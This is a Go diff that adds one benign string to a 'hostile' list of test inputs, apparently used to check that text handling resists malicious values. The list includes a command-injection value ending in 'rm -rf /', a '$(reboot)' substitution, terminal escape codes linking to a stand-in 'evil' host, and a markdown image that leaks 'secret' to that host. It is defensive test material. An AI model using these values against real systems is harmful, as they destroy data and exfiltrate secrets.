@@ -23,7 +23,7 @@ var hostile = []string{
 	"\x1b]8;;http://evil\x07click\x1b]8;;\x07\x1b[2J terminal escapes",
 	"![x](http://evil/?q=secret)",
 	"{{F1}} {{F99}} D-1 J-1 B-1",
-	"'; rm -rf / #", `"quoted\`, "\u202egnirts", "\u200b", "why", "cost", "not", "now", "D-2", "2022-04-13", "8", "carbon by site", "job", `\`, "-", "$(reboot)", " ", "a b",
+	"'; rm -rf / #", "can't say what's up", `"quoted\`, "\u202egnirts", "\u200b", "why", "cost", "not", "now", "D-2", "2022-04-13", "8", "carbon by site", "job", `\`, "-", "$(reboot)", " ", "a b",
 	strings.Repeat("a", 128),
 }
 
